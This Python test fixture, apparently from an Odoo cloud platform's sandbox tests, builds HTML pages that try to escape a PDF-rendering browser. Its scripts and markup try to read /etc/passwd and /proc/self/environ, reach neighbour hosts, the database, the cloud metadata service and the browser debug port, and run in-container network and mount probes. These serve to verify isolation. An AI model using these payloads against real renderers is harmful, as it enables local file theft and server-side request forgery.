# Copyright (c) 2026, odoo_cloud.platform contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Documents that try to read files or to reach something, and a listener that they try to reach."""

from __future__ import annotations

# What shows that an attempt succeeded, when it is in the PDF
MARKS = ("root:x:0:0", "REPORT_JOBS=", "admin_passwd", "NEIGHBOURS SECRET", "OPENED")

# Serves a secret to whoever comes by TCP, and logs everybody, by UDP too.
LISTENER = """
import socket, threading
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("0.0.0.0", 3478))
    while True:
        print("udp from", s.recvfrom(2048)[1], flush=True)
threading.Thread(target=udp, daemon=True).start()
s = socket.create_server(("0.0.0.0", 8000), backlog=50)
print("listening", flush=True)
while True:
    c, a = s.accept(); c.settimeout(5)
    try:
        print("tcp from", a, c.recv(2048)[:80], flush=True)
        c.sendall(b"HTTP/1.1 200 OK\\r\\nAccess-Control-Allow-Origin: *\\r\\nContent-Length: 17\\r\\n\\r\\nNEIGHBOURS SECRET")
    except OSError: pass
    c.close()
"""

# Each writes into the page what it got.
SCRIPTS = {
    "fetch of a file": "fetch('file:///etc/passwd').then(r => r.text())",
    "request for a file": "new Promise((ok, no) => {const x = new XMLHttpRequest(); x.open('GET', 'file:///proc/self/environ');"
                          " x.onload = () => ok(x.responseText); x.onerror = no; x.send()})",
    "fetch of a neighbour": "fetch('http://NEIGHBOUR:8000/').then(r => r.text())",
    "fetch of a neighbour without a scheme": "fetch('//NEIGHBOUR:8000/', {mode: 'no-cors'}).then(r => r.text())",
    "fetch of the database's port": "fetch('http://DATABASE:5432/', {mode: 'no-cors'}).then(r => 'OPENED')",
    "fetch of the metadata service": "fetch('http://169.254.169.254/latest/meta-data/', {mode: 'no-cors'}).then(r => 'OPENED')",
    "fetch of the browser's own port": "fetch('http://127.0.0.1:9222/json', {mode: 'no-cors'}).then(r => 'OPENED')",
    "POST to Odoo": "fetch('/web/session/authenticate', {method: 'POST', body: '{}'}).then(r => 'OPENED ' + r.status)",
    "PUT to Odoo": "fetch('/web/login', {method: 'PUT'}).then(r => 'OPENED ' + r.status)",
    "redirect of Odoo": "fetch('/web/session/logout?redirect=http%3A%2F%2FNEIGHBOUR%3A8000%2F').then(r => r.text())",
    "path that leads out": "fetch('/\\\\NEIGHBOUR:8000/').then(r => r.text())",
    "websocket to a neighbour":
        "new Promise((ok, no) => {const w = new WebSocket('ws://NEIGHBOUR:8000/'); w.onopen = () => ok('OPENED'); "
        "w.onerror = no; w.onclose = no})",
    "websocket to Odoo":
        "new Promise((ok, no) => {const w = new WebSocket('ws://' + location.host + '/websocket'); "
        "w.onmessage = () => ok('OPENED'); w.onerror = no; w.onclose = no})",
    "event source":
        "new Promise((ok, no) => {const e = new EventSource('http://NEIGHBOUR:8000/'); e.onopen = () => ok('OPENED'); "
        "e.onerror = no})",
    "beacon": "Promise.resolve(navigator.sendBeacon('http://NEIGHBOUR:8000/', 'x') && 'sent')",
    "picture":
        "new Promise((ok, no) => {const i = new Image(); i.onload = () => ok('OPENED'); i.onerror = no; "
        "i.src = 'http://NEIGHBOUR:8000/x.png'})",
    "script":
        "new Promise((ok, no) => {const s = document.createElement('script'); s.onload = () => ok('OPENED'); "
        "s.onerror = no; s.src = 'http://NEIGHBOUR:8000/x.js'; document.head.append(s)})",
    "module": "import('http://NEIGHBOUR:8000/x.js').then(() => 'OPENED')",
    "worker from a file":
        "new Promise((ok, no) => {const w = new Worker('file:///etc/passwd'); w.onerror = no; "
        "w.onmessage = () => ok('OPENED')})",
    "service worker": "navigator.serviceWorker.register('/web/service-worker.js').then(r => r ? 'OPENED' : 'none')",
    "WebRTC": "new Promise((ok, no) => {const p = new RTCPeerConnection({iceServers: [{urls: 'stun:NEIGHBOUR:3478'}]});"
              " p.createDataChannel('x');"
              " p.onicecandidate = e => {if (e.candidate && / srflx /.test(e.candidate.candidate)) ok('OPENED')};"
              " p.createOffer().then(o => p.setLocalDescription(o)); setTimeout(no, 2500)})",
    "window": "Promise.resolve(window.open('http://NEIGHBOUR:8000/') && 'window')",
    "cookie": "Promise.resolve(document.cookie ? 'OPENED ' + document.cookie : 'none')",
}  # fmt: skip

# Without a script
MARKUP = {
    "frame with a file": '<iframe src="file:///etc/passwd" width="600" height="200"></iframe>',
    "object with a file": '<object data="file:///etc/passwd" type="text/plain" width="600" height="200"></object>',
    "frame with a neighbour": '<iframe src="http://NEIGHBOUR:8000/" width="600" height="200"></iframe>',
    "style from a neighbour": '<style>@import url("http://NEIGHBOUR:8000/x.css"); body {background: url(file:///etc/passwd)}</style>',
    "hints": '<link rel="preconnect" href="http://NEIGHBOUR:8000"><link rel="prefetch" href="http://NEIGHBOUR:8000/p">',
    "form": '<form id="f" method="post" action="http://NEIGHBOUR:8000/"><input name="x"></form><script>f.submit()</script>',
    "refresh to a file": '<meta http-equiv="refresh" content="0; url=file:///etc/passwd">',
    "refresh to a neighbour": '<meta http-equiv="refresh" content="0; url=http://NEIGHBOUR:8000/">',
    "base of files": '<base href="file:///"><iframe src="etc/passwd" width="600" height="200"></iframe>',
}

# What a browser that was taken over would try in its container
INSIDE = {
    "connection to a neighbour": "import socket; socket.create_connection(('NEIGHBOUR', 8000), 3); print('OPENED')",
    "packet to a neighbour": "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('NEIGHBOUR', 3478)); "
    "print('OPENED')",
    "name server": "import socket; socket.getaddrinfo('example.com', 80); print('OPENED')",
    "packet filter": "import socket; socket.socket(16, 3, 12); print('OPENED')",
    "mount": "import ctypes, sys; print('OPENED' if ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0 else '')",
    "new file in the image": "open('/opt/odoo-cloud/x', 'w'); print('OPENED')",
}


def document(name: str, neighbour: str, database: str) -> str:
    """The HTML of an attempt, and in it what it got."""
    if name in SCRIPTS:
        body = (
            f"<p id=out>nothing</p><script>Promise.race([{SCRIPTS[name]}, new Promise((ok, no) => setTimeout(no, 3000))])"
            ".then(x => out.textContent = 'got ' + x, e => out.textContent = 'closed');</script>"
            # The page is not loaded before this is over.
            "<img src='/web/static/img/favicon.ico' onload='0'>"
        )
    else:
        body = MARKUP[name]
    text = (
        f"<!DOCTYPE html><html><head><base href='http://127.0.0.1:8069/'></head><body><h1>Try</h1>{body}</body></html>"
    )
    return text.replace("NEIGHBOUR", neighbour).replace("DATABASE", database)
